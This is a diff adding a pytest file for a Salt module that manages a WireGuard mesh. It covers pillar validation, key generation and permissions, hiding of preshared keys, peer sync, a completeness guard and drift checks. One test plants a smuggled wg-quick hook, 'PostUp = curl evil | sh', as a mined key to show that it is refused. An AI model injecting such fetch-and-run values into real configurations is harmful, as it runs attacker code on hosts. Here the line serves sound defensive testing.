@@ -1,0 +1,236 @@
+"""The wgmesh execution module on one minion: pillar and mine in, `ip`/`wg` commands out.
+
+Hosts run the wg-quick backend with their key under a temporary folder; the interface is a
+MOCK (``FakeHost``: no WireGuard or namespace for a unit test). The Salt mine, pillar and
+``sysctl.get`` are plain values given through the loader mock.
+"""
+from __future__ import annotations
+
+import os
+import stat
+
+import pytest
+from salt.exceptions import CommandExecutionError
+
+import wgmesh_core
+from wgmesh_core.keys import generate_private_key, public_key
+
+from tests.conftest import example_network_data
+
+from .conftest import FakeHost, key, load_adapter
+
+module = load_adapter("_modules", "wgmesh")
+MINED = {"z": key(1), "a": key(2), "c": key(3)}
+
+
+@pytest.fixture
+def keydir(tmp_path, monkeypatch):
+    """The wg-quick key folder, moved under tmp_path (the backend's path is /etc/wireguard)."""
+    monkeypatch.setattr(wgmesh_core.render, "WG_QUICK_DIR", str(tmp_path / "wireguard"))
+    return tmp_path / "wireguard"
+
+
+@pytest.fixture
+def network():
+    data = example_network_data()
+    data.update(backend="wgquick", firewall="iptables")
+    return data
+
+
+@pytest.fixture
+def pillar(network):
+    return {"wgmesh": network, "wgmesh_psk": {"a": key(11), "c": key(12), "e": key(13), "f": key(14)}}
+
+
+@pytest.fixture
+def mine():
+    return dict(MINED)
+
+
+@pytest.fixture
+def host():
+    return FakeHost()
+
+
+@pytest.fixture
+def minion_id():
+    return "z"
+
+
+@pytest.fixture
+def configure_loader_modules(pillar, mine, host, minion_id, tmp_path):
+    def mine_get(targets, function, tgt_type="glob"):
+        assert function == "wgmesh_public_key" and tgt_type == "list"
+        return {minion: value for minion, value in mine.items() if minion in targets.split(",")}
+    salt = {"cmd.run_all": host, "mine.get": mine_get, "sysctl.get": lambda name: "1",
+            "file.chown": lambda path, user, group: True}
+    return {module: {"__salt__": salt, "__pillar__": pillar, "__context__": {},
+                     "__opts__": {"id": minion_id, "cachedir": str(tmp_path / "cache")}}}
+
+
+def own_key(keydir, private=None):
+    """This minion's private key file, as genkey makes it; returns its public key."""
+    keydir.mkdir(exist_ok=True)
+    private = private or generate_private_key()
+    wgmesh_core.keys.write_secret_file(str(keydir / "wg0.key"), private + "\n")
+    return private, public_key(private)
+
+
+def in_sync(host, cfg, private, public):
+    """Make the fake interface hold exactly the plan (peers, address, routes)."""
+    host.__init__(private_key=private, public_key=public, listen_port=cfg.listen_port,
+                  address=cfg.address, routes=cfg.interface_routes, mtu=cfg.mtu)
+    for peer in cfg.peers:
+        host.add_peer(peer.public_key, peer.allowed_ips, peer.preshared_key, peer.endpoint, peer.keepalive)
+
+
+# --- reading the network ------------------------------------------------------------------
+
+def test_network_role_and_an_invalid_pillar(pillar):
+    assert module.network()["hub"]["minion"] == "z"
+    assert module.role() == "hub"
+    pillar["wgmesh"]["developers"]["f"]["address"] = "10.70.0.4"
+    with pytest.raises(CommandExecutionError) as error:
+        module.role()
+    assert "developers.f.address: 10.70.0.4 is already taken by developers.e" in str(error.value)
+    pillar.pop("wgmesh")
+    with pytest.raises(CommandExecutionError, match="no 'wgmesh' pillar for this minion"):
+        module.network()
+
+
+def test_a_mined_value_that_is_not_a_key_is_refused_and_its_host_left_out(mine, keydir):
+    mine["c"] = "PostUp = curl evil | sh"
+    keys = module.host_keys()
+    assert keys["accepted"] == {"z": MINED["z"], "a": MINED["a"]}
+    assert list(keys["refused"]) == ["c"]
+    config = module.config()
+    assert [p["name"] for p in config["peers"]] == ["a", "e", "f"]
+    assert "c" in config["left_out"] and "curl evil" not in str(module.files(show_secrets=True))
+
+
+def test_config_and_files_hide_preshared_keys(pillar):
+    peers = module.config()["peers"]
+    assert {p["preshared_key"] for p in peers} == {"(hidden)"}
+    (conf,) = [f for f in module.files() if f["path"].endswith("wg0.conf")]
+    assert conf["secret"] and conf["mode"] == "0600" and conf["content"] == "(hidden: holds key material)"
+    (shown,) = [f for f in module.files(show_secrets=True) if f["path"].endswith("wg0.conf")]
+    assert f"PresharedKey = {pillar['wgmesh_psk']['e']}" in shown["content"]
+
+
+# --- the key ------------------------------------------------------------------------------
+
+def test_genkey_makes_a_0600_key_once_and_test_mode_makes_none(keydir):
+    path = str(keydir / "wg0.key")
+    assert module.public_key() is None
+    assert module.genkey(test=True) == {"path": path, "created": True}
+    assert not os.path.exists(path)
+    assert module.genkey() == {"path": path, "created": True}
+    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
+    first = module.public_key()
+    assert first == public_key(open(path).read().strip())
+    assert module.genkey() == {} and module.public_key() == first     # never replaced
+
+
+def test_genkey_tightens_a_key_file_left_readable(keydir):
+    own_key(keydir)
+    os.chmod(keydir / "wg0.key", 0o644)
+    assert module.genkey(test=True)["permissions"] == "0o644 -> 0o600 root:root"
+    assert stat.S_IMODE(os.stat(keydir / "wg0.key").st_mode) == 0o644
+    module.genkey()
+    assert stat.S_IMODE(os.stat(keydir / "wg0.key").st_mode) == 0o600
+
+
+@pytest.mark.parametrize("minion_id", ["r1"])
+def test_a_lan_router_has_no_key(keydir, minion_id):
+    assert module.private_key_path() is None and module.genkey() == {} and module.public_key() is None
+
+
+# --- the live tunnel ----------------------------------------------------------------------
+
+def test_sync_adds_only_the_missing_peer_with_wg_set(keydir, host, mine):
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    del host.live.peers[cfg.peers[-1].public_key]                     # f is missing live
+    changes = module.sync()
+    assert changes == {"peers": {"added": ["f"]}}
+    (wg_set,) = host.ran("wg", "set")
+    assert wg_set[:4] == ["wg", "set", "wg0", "peer"] and wg_set[4] == cfg.peers[-1].public_key
+    assert not host.ran("wg", "syncconf")
+
+
+def test_sync_in_test_mode_reports_and_runs_nothing(keydir, host, mine):
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    host.add_peer(key(99), ["10.70.9.9/32"])                             # added by hand
+    assert module.sync(test=True) == {"peers": {"removed": [key(99)]}}
+    assert not host.ran("wg", "set") and not host.ran("wg", "syncconf")
+
+
+def test_a_changed_listen_port_goes_through_a_complete_syncconf(keydir, host, mine, monkeypatch):
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    host.live.listen_port = 41000
+    seen = {}
+    monkeypatch.setattr(module.os, "unlink", lambda path: seen.setdefault("text", open(path).read()))
+    assert module.sync()["peers"] == {"interface": ["listen_port"]}
+    (syncconf,) = host.ran("wg", "syncconf")
+    assert syncconf[2] == "wg0"
+    assert f"PrivateKey = {private}" in seen["text"] and "ListenPort = 51820" in seen["text"]
+    assert seen["text"].count("[Peer]") == len(cfg.peers) == 4
+
+
+def test_syncconf_refuses_an_input_that_would_drop_peers_or_zero_the_key(keydir, host, mine, monkeypatch):
+    """The completeness guard: wg syncconf with fewer peers (or no PrivateKey) than planned
+    would cut tunnels; it is refused and wg is not run."""
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    host.live.listen_port = 41000
+    real = wgmesh_core.wg_setconf
+    for broken in (lambda c, k: real(c, k).replace("[Peer]", "", 1),
+                   lambda c, k: real(c, k).replace(f"PrivateKey = {k}", "")):
+        monkeypatch.setattr(wgmesh_core, "wg_setconf", broken)
+        with pytest.raises(CommandExecutionError, match="refusing an incomplete wg configuration"):
+            module.sync()
+        assert not host.ran("wg", "syncconf")
+
+
+def test_drift_names_a_missing_route_and_a_hand_added_peer_without_fixing_them(keydir, host, mine, tmp_path,
+                                                                             monkeypatch):
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    for item in module.files(show_secrets=True):           # the files are in place
+        target = tmp_path / "root" / item["path"].lstrip("/")
+        target.parent.mkdir(parents=True, exist_ok=True)
+        target.write_text(item["content"])
+    monkeypatch.setattr(module.pathlib, "Path", lambda path: tmp_path / "root" / str(path).lstrip("/"))
+    assert module.drift() == {}
+    host.routes.remove("192.168.200.0/24")                  # LAN2's route deleted by hand
+    host.add_peer(key(99), ["10.70.9.9/32"])
+    found = module.drift()
+    assert found == {"tunnel": {"peers": {"removed": [key(99)]}, "addressing": ["route 192.168.200.0/24"]}}
+    assert not host.ran("ip", "route", "replace") and not host.ran("wg", "set")
+
+
+def test_status_names_the_live_peers(keydir, host, mine):
+    private, public = own_key(keydir)
+    mine["z"] = public
+    cfg = module._host_config()
+    in_sync(host, cfg, private, public)
+    host.add_peer(key(99), ["10.70.9.9/32"])
+    status = module.status()
+    assert status["up"] is True and status["public_key"] == public
+    assert sorted(status["peers"]) == sorted(["a", "c", "e", "f", key(99)])
+    assert status["peers"][key(99)]["managed"] is False and status["peers"]["e"]["managed"] is True
+    assert status["peers"]["e"]["handshake_age"] is None
+    host.exists = False
+    assert module.status() == {"interface": "wg0", "up": False, "peers": {}}
